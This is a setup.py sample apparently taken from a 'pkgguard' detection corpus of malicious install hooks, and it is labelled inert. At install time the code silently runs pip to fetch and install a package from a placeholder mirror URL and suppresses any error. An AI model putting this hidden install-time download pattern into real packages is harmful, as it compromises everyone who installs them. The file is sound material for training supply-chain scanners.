# pkgguard corpus 473 (install-hook), modelled on [bertus]; inert, never run.
from setuptools import setup

try:
    import pip

    pip.main(["install", "--quiet", "https://pkg-mirror.example/helpers/pkg_helpers-1.0.tar.gz"])
except Exception:
    pass

setup(name="pkg", version="2.0", packages=["pkg"])
